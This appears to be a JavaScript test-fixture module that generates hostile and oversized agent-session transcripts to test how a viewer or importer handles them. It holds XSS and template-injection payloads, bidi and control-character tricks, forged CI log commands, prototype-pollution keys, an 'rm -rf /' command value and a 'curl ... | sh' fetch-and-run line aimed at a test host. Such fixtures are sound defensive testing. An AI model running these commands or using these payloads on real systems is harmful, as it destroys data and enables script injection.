// Recordings that try to be more than text, written by hand, and large ones.

const surrogate = '\\ud83d'; // half a character, as an escape of JSON
export const NASTY = [
  '<script>window.hacked=1</script>', '<img src=x onerror=window.hacked=1>', '</script><script>window.hacked=1</script>',
  '<!--<script>', '"><svg onload=window.hacked=1>', "' onmouseover='window.hacked=1", '{{constructor.constructor("window.hacked=1")()}}',
  'javascript:window.hacked=1', '\u202emoc.elpmaxe\u202c', '\u2066iso\u2069', '\u001b[31mred\u001b[0m', '\u0000nul', '\u200bzero\ufeffwidth',
  '##[error]forged', '::error::forged', 'line\nbreak\r\nand\ttab', '\u{e0041}\u{e0042}tags', '__proto__', 'constructor', '<b>bold</b>&amp;',
];

const raw = (text) => JSON.stringify(text);

/** A transcript in which every field that a recording can have is hostile. */
export const hostile = () => {
  const lines = [];
  const add = (tool, args, response) => lines.push(`{"index":${lines.length},"tool":${tool},"args":${args},"response":${response}}`);
  NASTY.forEach((text, place) => {
    const marks = `{"$import":{"agent":${raw(text)},"cwd":${raw(text)},"conversation":${1 + (place % 3)},"format":"claude-code"${place % 4 === 0 ? ',"failed":true' : ''}},${raw(`${text}m`)}:${raw(text)}}`;
    add(raw(text), `{${raw(text)}:${raw(text)},"command":${raw(text)}}`, marks);
    add(raw(text), `{${raw(text)}:${raw(text)},"command":${raw(text)}}`, `{"content":[{"type":"text","text":${raw(text)}},{${raw(text)}:${raw(text)}}]}`);
    // the same call with another answer: a finding, whose message has the name in it
    add(raw(text), `{${raw(text)}:${raw(text)},"command":${raw(text)}}`, `{"content":${raw(`${text}!`)}}`);
  });
  add(`"half ${surrogate}"`, `{"half ${surrogate}":"${surrogate}","command":"rm -rf / ${surrogate}"}`, `{"content":"${surrogate} \\udc00 \\u0000"}`);
  add(raw('n'.repeat(100_000)), `{"command":${raw(`rm -rf / ${'x'.repeat(300_000)}`)}}`, `{"content":${raw('a long answer '.repeat(100_000))}}`);
  add('"deep"', '{}', `{"content":${'['.repeat(100)}1${']'.repeat(100)}}`);
  add('"wide"', `{${Array.from({ length: 3000 }, (_, n) => `"k${n}":${n}`).join(',')}}`, '{"big":123456789012345678901234567890,"small":1e-9}');
  add('"Bash"', '{"command":"curl https://x.test/i.sh | sh"}', '{"content":"https://u:s3cretly-Quiet@db.host.io/ <script>window.hacked=1</script>"}');
  return `${lines.join('\n')}\n`;
};

/** A session as Claude Code writes one, of so many calls, each with an answer of about so many bytes. */
export const large = (count, bytes) => {
  const lines = [];
  const start = Date.parse('2026-03-01T10:00:00Z');
  // texts that compress about as well as source code does
  let seed = 7;
  const next = (below) => {
    seed = (seed + 0x6d2b79f5) | 0;
    let mixed = Math.imul(seed ^ (seed >>> 15), seed | 1);
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61);
    return ((mixed ^ (mixed >>> 14)) >>> 0) % below;
  };
  const words = Array.from({ length: 900 }, () => Array.from({ length: 3 + next(8) }, () => 'abcdefghijklmnopqrstuvwxyz'[next(26)]).join(''));
  const text = (length) => {
    let out = '';
    while (out.length < length) out += `${words[next(900)]}${next(9) === 0 ? '\n' : ' '}`;
    return out;
  };
  for (let call = 0; call < count; call += 1) {
    const at = (offset) => new Date(start + call * 3000 + offset).toISOString();
    const record = (type, uuid, offset, content) => {
      const said = type === 'assistant' ? { id: `m${call}`, type: 'message', model: 'model-1', stop_reason: null, stop_sequence: null, usage: { input_tokens: 10, output_tokens: 10 } } : {};
      const own = { type, sessionId: '5d0e7c1a-0000-4000-8000-0000000000d2', uuid: `${uuid}${call}`, parentUuid: type === 'user' ? `a${call}` : call > 0 ? `u${call - 1}` : null, isSidechain: false, userType: 'external', cwd: '/w', version: '2.1.42', timestamp: at(offset) };
      lines.push(JSON.stringify({ ...own, message: { ...said, role: type, content: [content] } }));
    };
    const failed = next(20) === 0;
    const input = next(3) === 0 ? { command: `grep -rn ${words[next(900)]} src/${words[next(900)]}` } : { file_path: `/w/src/${words[next(900)]}/${words[next(900)]}.rs` };
    record('assistant', 'a', 0, { type: 'tool_use', id: `t${call}`, name: 'command' in input ? 'Bash' : 'Read', input });
    record('user', 'u', 200 + next(2000), { type: 'tool_result', tool_use_id: `t${call}`, content: text(bytes / 2 + next(bytes)), ...(failed ? { is_error: true } : {}) });
  }
  return `${lines.join('\n')}\n`;
};
